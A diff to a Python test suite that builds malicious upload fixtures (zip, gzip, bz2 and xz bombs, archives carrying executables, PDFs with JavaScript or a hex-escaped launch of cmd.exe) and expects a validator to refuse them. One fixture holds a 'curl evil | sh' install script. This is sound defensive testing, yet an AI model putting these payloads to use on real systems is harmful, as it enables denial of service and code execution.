@@ -10,6 +10,7 @@ to upload) while what they claim to expand to is huge.
 import bz2
 import gzip
 import io
+import lzma
 import struct
 import tarfile
 import zipfile
@@ -80,6 +81,53 @@ def zip_path_traversal() -> bytes:
 
 def zip_with_exe() -> bytes:
     return _zip({"setup.exe": b"MZ" + bytes(200), "readme.txt": b"hi"})
+
+
+def zips_nested_deep() -> bytes:
+    inner = _zip({"data.csv": b"a,b\n1,2\n"})
+    for level in range(5):
+        inner = _zip({f"level{level}.zip": inner})
+    return inner
+
+
+def _tar(entries: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, data in entries.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def tar_gz_with_zip_bomb() -> bytes:
+    return gzip.compress(_tar({"readme.txt": b"hello\n", "inner.zip": zip_bomb_flat()}))
+
+
+def zip_with_elf() -> bytes:
+    return _zip({"bin/readme.txt": elf_header(), "ok.csv": b"a,b\n1,2\n"})
+
+
+def tar_gz_with_script() -> bytes:
+    return gzip.compress(_tar({"src/install": b"#!/bin/sh\ncurl evil | sh\n", "src/data.csv": b"a\n1\n"}))
+
+
+def gzip_of_pe() -> bytes:
+    return gzip.compress(pe_header())
+
+
+def xz_bomb() -> bytes:
+    # xz's default preset: its 8 MiB dictionary is what unpacking costs.
+    return lzma.compress(bytes(60 * MIB), preset=6)
+
+
+def tar_gz_then_zeros() -> bytes:
+    # A valid tar whose end marker stops tar readers; gunzip still inflates the zeros.
+    return gzip.compress(_tar({"a.csv": b"a\n1\n"}) + bytes(60 * MIB), compresslevel=9)
+
+
+def gzip_of_gzip_bomb() -> bytes:
+    return gzip.compress(gzip.compress(bytes(200 * MIB), compresslevel=9), compresslevel=9)
 
 
 def gzip_bomb() -> bytes:
@@ -162,6 +210,20 @@ def pdf_js_polyglot() -> bytes:
     return b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + b"%%EOF\n"
 
 
+def pdf_launch_escaped() -> bytes:
+    # "/L#61unch" is "/Launch" (names may escape any byte as #xx).
+    return (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/L#61unch/F(cmd.exe)>>>>endobj\n"
+        + b"%"
+        + b"x" * 100
+        + b"\n%%EOF\n"
+    )
+
+
+def pdf_open_action_only() -> bytes:
+    return b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj\n%%EOF\n"
+
+
 def gifar() -> bytes:
     # GIF header followed by a zip (GIFAR-style polyglot).
     return gif_header_small() + _zip(
@@ -216,6 +278,11 @@ def csv_unbalanced_quotes() -> bytes:
 
 def csv_huge_field() -> bytes:
     return b"a,b\n" + b"x" * (12 * MIB) + b",1\n"
+
+
+def csv_huge_multiline_field() -> bytes:
+    # Short physical lines, one quoted field of 12 MiB across them.
+    return b'a,b\n"' + b"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n" * (12 * MIB // 31) + b'",1\n'
 
 
 def csv_nul_bytes() -> bytes:
@@ -333,16 +400,25 @@ CASES: list[Case] = [
     ),
     # archives
     Case("zip bomb flat", "bomb.zip", zip_bomb_flat, "failed", BOMB),
-    # FINDING: archives inside archives are not opened; each layer alone is harmless.
-    Case("zip bomb nested", "nested.zip", zip_bomb_nested, "completed"),
+    # Each layer alone is harmless; what all of them expand to together is not.
+    Case("zip bomb nested", "nested.zip", zip_bomb_nested, "failed", BOMB),
+    Case("zips nested too deep", "deep.zip", zips_nested_deep, "failed", ("nested", "levels")),
+    Case("zip bomb inside a tar.gz", "bundle.tar.gz", tar_gz_with_zip_bomb, "failed", BOMB),
     Case("zip bomb many entries", "many.zip", zip_bomb_many_entries, "failed", BOMB),
     Case("zip lying about sizes", "liar.zip", zip_overlapping_claims, "failed", BOMB + BAD_CONTENT),
     Case("zip with path traversal", "traversal.zip", zip_path_traversal, "failed", NAME + ("travers", "unsafe")),
-    # Policy: member names of archives are checked for traversal, not for blocked types.
-    Case("zip carrying an exe", "tools.zip", zip_with_exe, "completed"),
-    # FINDING: single-stream gzip/bz2 are not inspected for their expansion ratio.
-    Case("gzip bomb", "logs.csv.gz", gzip_bomb, "completed"),
-    Case("bz2 bomb", "dump.bz2", bz2_bomb, "completed"),
+    # Executables are refused inside archives too, by name and by content;
+    # the reason names the entry.
+    Case("zip carrying an exe", "tools.zip", zip_with_exe, "failed", ("setup.exe",)),
+    Case("zip carrying an elf named txt", "notes.zip", zip_with_elf, "failed", ("bin/readme.txt", "elf")),
+    Case("tar.gz carrying a script", "src.tar.gz", tar_gz_with_script, "failed", ("install", "script")),
+    Case("gzip of an exe", "data.gz", gzip_of_pe, "failed", ("executable",)),
+    # Single compressed streams are inflated in full, counted, and stopped at the limit.
+    Case("gzip bomb", "logs.csv.gz", gzip_bomb, "failed", BOMB),
+    Case("bz2 bomb", "dump.bz2", bz2_bomb, "failed", BOMB),
+    Case("xz bomb", "dump.xz", xz_bomb, "failed", BOMB),
+    Case("gzip bomb behind a tiny tar", "small.tar.gz", tar_gz_then_zeros, "failed", BOMB),
+    Case("gzip of gzip bomb", "twice.gz", gzip_of_gzip_bomb, "failed", BOMB),
     Case(
         "tar with symlink and traversal",
         "bundle.tar",
@@ -365,8 +441,11 @@ CASES: list[Case] = [
     Case("deeply nested xml", "deep.xml", deep_xml, "failed", XML_DANGER + BAD_CONTENT),
     Case("svg with script", "logo.svg", svg_script, "failed", ("image", "script", "svg")),
     # polyglots and disguised executables
-    # Policy: PDFs are checked for structure, not for active content (served as attachments only).
-    Case("pdf with javascript", "report.pdf", pdf_js_polyglot, "completed"),
+    # PDFs that run JavaScript or launch programs are refused; automatic
+    # actions and embedded files are listed in the report only.
+    Case("pdf with javascript", "report.pdf", pdf_js_polyglot, "failed", ("javascript", "active")),
+    Case("pdf with a hex-escaped launch", "invoice.pdf", pdf_launch_escaped, "failed", ("launch", "active")),
+    Case("pdf with a plain open action", "zoom.pdf", pdf_open_action_only, "completed"),
     Case("gifar", "photo.gif", gifar, "failed", BAD_CONTENT + ("archive", "polyglot", "type", "match")),
     # A one-column CSV as far as CSV goes; it is only ever served as an attachment with nosniff.
     Case("html named csv", "page.csv", html_as_csv, "completed"),
@@ -403,14 +482,14 @@ CASES: list[Case] = [
     Case("csv invalid utf-8", "latin.csv", invalid_utf8_csv, "completed"),
     Case("csv mixed line endings", "mixed.csv", mixed_line_endings_csv, "completed"),
     Case("csv unbalanced quotes", "quotes.csv", csv_unbalanced_quotes, "failed", BAD_CONTENT + ("column",)),
+    # Refused at the reader: neither the line nor the field is held whole.
+    Case("csv giant field", "wide.csv", csv_huge_field, "failed", BAD_CONTENT + ("field", "large", "limit")),
     Case(
-        "csv giant field",
-        "wide.csv",
-        csv_huge_field,
+        "csv giant quoted multi-line field",
+        "notes.csv",
+        csv_huge_multiline_field,
         "failed",
         BAD_CONTENT + ("field", "large", "limit"),
-        # FINDING: the csv module holds a field up to FILES_CSV_MAX_FIELD_SIZE in memory, several times over.
-        max_heap=128 * MIB,
     ),
     Case("csv with nul bytes", "nulbytes.csv", csv_nul_bytes, "failed", BAD_CONTENT + ("nul", "binary")),
     Case(
